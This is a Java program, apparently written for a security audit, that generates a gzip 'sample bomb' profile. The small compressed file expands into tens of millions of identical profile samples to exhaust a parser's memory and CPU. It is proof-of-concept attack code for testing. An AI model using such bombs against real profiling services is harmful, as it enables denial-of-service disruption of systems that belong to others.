import java.io.BufferedOutputStream;
import java.io.FileOutputStream;
import java.io.OutputStream;
import java.util.zip.GZIPOutputStream;

/**
 * Writes a profile of many equal samples: a sample type and string table, then SIZE bytes of
 * one sample repeated, gzipped. FRAMES 0 (the default) repeats the audit's 5-byte sample
 * {value: 1} (300 MB become 437 KB: 60 million samples); FRAMES 1 adds a function "main" and
 * a location calling it and repeats the 6-byte sample {location_id: 1, value: 1} (300 MB:
 * 50 million one-frame samples).
 * Usage: java SampleBomb.java OUT [SIZE] [FRAMES]
 */
public class SampleBomb {
    public static void main(String[] args) throws Exception {
        long size = args.length > 1 ? Long.parseLong(args[1]) : 300_000_000L;
        boolean oneFrame = args.length > 2 && Integer.parseInt(args[2]) == 1;
        byte[] header = {0x0a, 0x04, 0x08, 0x01, 0x10, 0x02, 0x32, 0x00,
            0x32, 0x07, 's', 'a', 'm', 'p', 'l', 'e', 's', 0x32, 0x05, 'c', 'o', 'u', 'n', 't'};
        byte[] sample = {0x12, 0x03, 0x12, 0x01, 0x01};
        if (oneFrame) {
            // location {id: 1, line {function_id: 1}}, function {id: 1, name: 3}, string "main"
            byte[] frame = {0x22, 0x06, 0x08, 0x01, 0x22, 0x02, 0x08, 0x01, 0x2a, 0x04, 0x08, 0x01, 0x10, 0x03,
                0x32, 0x04, 'm', 'a', 'i', 'n'};
            byte[] h = new byte[header.length + frame.length];
            System.arraycopy(header, 0, h, 0, header.length);
            System.arraycopy(frame, 0, h, header.length, frame.length);
            header = h;
            sample = new byte[] {0x12, 0x04, 0x08, 0x01, 0x10, 0x01};
        }
        byte[] block = new byte[sample.length << 16];
        for (int i = 0; i < block.length; i++) {
            block[i] = sample[i % sample.length];
        }
        size -= size % sample.length;
        try (OutputStream out = new GZIPOutputStream(new BufferedOutputStream(new FileOutputStream(args[0])), 1 << 16)) {
            out.write(header);
            for (long written = 0; written < size; written += block.length) {
                out.write(block, 0, (int) Math.min(block.length, size - written));
            }
        }
    }
}
